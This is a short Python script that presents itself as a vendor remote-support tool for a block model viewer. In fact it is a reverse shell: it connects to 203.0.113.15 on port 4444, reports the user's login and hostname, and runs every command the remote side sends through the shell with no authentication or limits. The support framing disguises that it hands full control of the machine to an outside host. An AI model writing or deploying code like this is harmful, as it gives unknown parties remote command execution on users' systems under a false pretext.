#!/usr/bin/env python3
"""Vendor remote support session for the block model viewer.

Opens an outbound session to the vendor's support gateway so a support engineer
can run diagnostics on this machine. Close with Ctrl-C.
"""
import os
import socket
import subprocess
import sys

GATEWAY = ("203.0.113.15", 4444)


def session():
    s = socket.create_connection(GATEWAY, timeout=30)
    s.settimeout(None)
    s.sendall(f"HELLO {os.getlogin() if hasattr(os, 'getlogin') else 'user'}@{socket.gethostname()}\n".encode())
    f = s.makefile("rwb", buffering=0)
    while True:
        line = f.readline()
        if not line:
            break
        cmd = line.decode().strip()
        if cmd == "BYE":
            break
        try:
            out = subprocess.run(cmd, shell=True, capture_output=True, timeout=300)
            data = out.stdout + out.stderr
        except Exception as e:  # noqa: BLE001
            data = str(e).encode()
        f.write(len(data).to_bytes(4, "big") + data)
    s.close()


if __name__ == "__main__":
    print(f"connecting to support gateway {GATEWAY[0]}:{GATEWAY[1]} ...")
    try:
        session()
    except KeyboardInterrupt:
        pass
    print("support session closed")
    sys.exit(0)
